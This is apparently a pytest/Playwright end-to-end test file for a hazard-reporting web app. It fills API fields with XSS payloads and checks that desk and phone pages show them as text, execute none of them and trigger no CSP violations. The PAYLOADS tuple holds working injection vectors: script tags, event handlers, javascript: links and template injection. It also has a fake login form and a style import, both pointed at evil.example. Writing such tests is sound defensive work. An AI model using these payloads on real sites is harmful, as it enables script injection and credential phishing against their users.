"""Markup in every field that people fill in: shown as words on every page, run by none.

Some fields are filled in through the API, with every kind of markup; then every column in which a
word stands gets one kind. The pages also stay within the policy that the server sends: no
violation is ever reported.
"""

import os
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Self

import httpx
import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Playwright, expect

from app.models.base import new_id
from tests.conftest import FAST
from tests.e2e.accessibility import come_to_rest
from tests.e2e.desk import Desk
from tests.e2e.phone import Phone
from tests.e2e.poison import MARKUP, poison
from tests.e2e.screens import DESK, FIELD
from tests.e2e.visiting import Cases, open_first, settle, walk_to
from tests.running import RunningApp, demo_county

pytestmark = pytest.mark.e2e
SHORT = "<img src=x onerror=p=1>"  # 名称 of 20 characters and more take it
PAYLOADS = (
    '<img src=x onerror="window.pwned=1">',
    "\"'><script>window.pwned=1</script>",
    "<svg/onload=window.pwned=1>",
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "</textarea></title><script>window.pwned=1</script>",
    '<a href="javascript:window.pwned=1">点</a>',
    "{{constructor.constructor('window.pwned=1')()}}",
    "${window.pwned=1}`;window.pwned=1//",
    '<form action="//evil.example"><button>登录</button></form>',
    '<style>@import "//evil.example"</style>',
    "\u202egpj.exe\u2066 🔥\u200d\u2028\ufeff",
)
EVERYTHING = "\n".join(PAYLOADS)
GRIDWORKER, COUNTY, ADMINISTRATOR, TOWNSHIP = "王桂芬", "陈晓燕", "郑凯", "赵立新"
DESK_PAGES = ("cases", "cases?all=1", "suggestions", "places/grids", "ledger")
FIELD_PAGES = ("", "cases", "pending", "ledger")
LEAST_COLUMNS, LEAST_PAGES = 60, 60


@dataclass
class Watch:
    """What a page did that it must not: a script of a stranger, or something the policy forbids."""

    found: list[str] = field(default_factory=list)

    def on(self, page: Page) -> None:
        page.add_init_script("window.pwned = 0; window.p = 0")
        page.on("dialog", lambda dialog: self.found.append(f"dialog {dialog.message}"))
        page.on("pageerror", lambda error: self.found.append(f"{page.url} {error}"))
        page.on("console", lambda message: self._heard(page, message))

    def _heard(self, page: Page, message: ConsoleMessage) -> None:
        if any(word in message.text for word in ("Content Security Policy", "Trusted")):
            self.found.append(f"{page.url} {message.text}")

    def look(self, page: Page) -> None:
        page.wait_for_load_state("networkidle")  # markup that asked for something has asked
        come_to_rest(page, 100)
        if page.evaluate("window.pwned || window.p"):
            self.found.append(f"{page.url} ran it")
        if page.locator("img[src='x']").count():
            self.found.append(f"{page.url} took it for markup")


class Writer:
    """One person of the cast, speaking to the API."""

    def __init__(self, county: RunningApp, name: str) -> None:
        login, password = county.account(name)
        self.http = httpx.Client(base_url=county.url, headers={"Origin": county.url}, timeout=30)
        self.send("POST", "/api/session", {"login": login, "password": password})
        token = self.http.cookies.get("__Host-safegrid")
        self.http.headers["Cookie"] = f"__Host-safegrid={token}"  # no TLS here: say it by hand

    def __enter__(self) -> Self:
        return self

    def __exit__(self, *_: object) -> None:
        self.http.close()

    def send(self, method: str, path: str, body: dict[str, Any]) -> Any:
        answer = self.http.request(method, path, json=body)
        assert answer.is_success, f"{method} {path}: {answer.status_code} {answer.text}"
        return answer.json() if answer.content else None

    def first(self, path: str) -> dict[str, Any]:
        found = self.http.get(path).raise_for_status().json()
        rows = found if isinstance(found, list) else found.get("items") or found["categories"]
        return dict(rows[0])


@pytest.fixture
def poisoned(county: RunningApp) -> Iterator[str]:
    """The id of a case full of markup; names of places are given back at the end."""
    with (
        Writer(county, ADMINISTRATOR) as administrator,
        Writer(county, GRIDWORKER) as worker,
        Writer(county, TOWNSHIP) as officer,
        _renamed(administrator),
    ):
        hazard = _report(worker)
        _talk(officer, hazard)
        yield hazard


@contextmanager
def _renamed(administrator: Writer) -> Iterator[None]:
    """One of each kind of place bears a name that is markup."""
    before = []
    for kind in ("organizations", "grids", "objects"):
        row = administrator.first(f"/api/{kind}")
        path = f"/api/{kind}/{row['id']}"
        before.append((path, {"name": row["name"]}))
        administrator.send("PATCH", path, {"name": PAYLOADS[0]})
    yield
    for path, body in before:
        administrator.send("PATCH", path, body)


def _report(worker: Writer) -> str:
    hazard = str(new_id())
    worker.send(
        "PUT",
        f"/api/hazards/{hazard}",
        {
            "category_code": "fire",
            "note": EVERYTHING,
            "place": PAYLOADS[0],
            "no_photo_reason": PAYLOADS[1],
            "occurred_at": datetime.now(UTC).isoformat(),
            "position": {"lat": 34.579, "lon": 117.758, "accuracy_m": 9, "source": "gps"},
            "escalate": True,
        },
    )
    worker.send("PUT", f"/api/suggestions/{new_id()}", {"text": EVERYTHING})
    return hazard


def _talk(officer: Writer, hazard: str) -> None:
    for action, words in (("comment", {"note": EVERYTHING}), ("suspect_major", {"reason": SHORT})):
        body = {"action": action, "occurred_at": datetime.now(UTC).isoformat(), **words}
        officer.send("PUT", f"/api/hazards/{hazard}/actions/{new_id()}", body)
    officer.send("PUT", f"/api/views/{new_id()}", {"name": SHORT[:20], "filters": {}})


@pytest.mark.parametrize("name", [COUNTY, ADMINISTRATOR, TOWNSHIP])
def test_markup_is_words_on_every_page_of_a_desk(
    desk: Callable[[str], Desk], poisoned: str, name: str
) -> None:
    watch, officer = Watch(), desk(name)
    watch.on(officer.page)
    for path in (*DESK_PAGES, f"cases/{poisoned}"):
        watch.look(officer.visit(f"/desk/{path}"))
        show = officer.page.get_by_role("button", name="地图")
        if show.count():
            show.first.click()
            watch.look(officer.page)
    if name != ADMINISTRATOR:
        expect(officer.page.get_by_text("window.pwned=1").first).to_be_visible()
        watch.look(officer.visit(f"/desk/print/{poisoned}"))
    assert watch.found == []


def test_markup_is_words_on_every_page_of_a_phone(
    phone: Callable[[str], Phone], poisoned: str
) -> None:
    watch, worker = Watch(), phone(GRIDWORKER)
    watch.on(worker.page)
    for path in (*FIELD_PAGES, f"case/{poisoned}"):
        watch.look(worker.visit(f"/field/{path}"))
    expect(worker.page.get_by_text("window.pwned=1").first).to_be_visible()
    assert worker.page.evaluate("navigator.serviceWorker.getRegistrations().then(r => r.length)")
    assert watch.found == []


@pytest.fixture(scope="module")
def written_over(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    """A demo county in which markup stands behind every word."""
    base = tmp_path_factory.getbasetemp()
    home = base.parent if "PYTEST_XDIST_WORKER" in os.environ else base
    var = tmp_path_factory.mktemp("written-over")
    with demo_county("pytest-e2e", var, home=home, server=FAST, prepare=_write_over) as app:
        yield app


def _write_over(database_url: str) -> None:
    columns = poison(database_url)
    assert len(columns) >= LEAST_COLUMNS, columns


def test_whatever_stands_in_any_column_is_words_on_every_page(
    written_over: RunningApp,
    browser: Browser,
    playwright: Playwright,
    films: dict[str, Path],
    tmp_path: Path,
) -> None:
    watch, shown = Watch(), 0
    phone = Phone(playwright, tmp_path / "phone", written_over.url, films["hazard"])
    phone.sign_in(*written_over.account(GRIDWORKER))
    watch.on(phone.page)
    cases = Cases(phone.page, phone.origin)
    for path in (path for visit in FIELD.values() for path in visit.paths):
        walk_to(phone.page, cases.fill(path))
        watch.look(phone.page)
        shown += MARKUP in phone.page.inner_text("body")
    phone.close()
    for name in sorted({visit.who for visit in DESK.values()}):
        officer = Desk(browser, written_over.url)
        officer.step_in(*written_over.account(name))
        settle(officer.visit())
        watch.on(officer.page)
        cases = Cases(officer.page, officer.origin)
        for path in (path for one in DESK.values() if one.who == name for path in one.paths):
            walk_to(officer.page, "/" + cases.fill(path))
            settle(officer.page)
            open_first(officer.page, path)
            watch.look(officer.page)
            shown += MARKUP in officer.page.inner_text("body")
        officer.close()
    assert watch.found == []
    assert shown >= LEAST_PAGES


def test_the_watch_hears_what_it_listens_for(desk: Callable[[str], Desk]) -> None:
    watch, officer = Watch(), desk(COUNTY)
    watch.on(officer.page)
    officer.visit("/desk/cases")
    for attempt in (
        "document.body.innerHTML = '<b>markup</b>'",
        "document.body.setAttribute('style', 'color: red')",
    ):
        officer.page.evaluate(f"setTimeout(() => {{ try {{ {attempt} }} catch {{}} }})")
    officer.page.wait_for_timeout(500)
    assert any("Trusted" in line for line in watch.found)
    assert any("style-src" in line for line in watch.found)
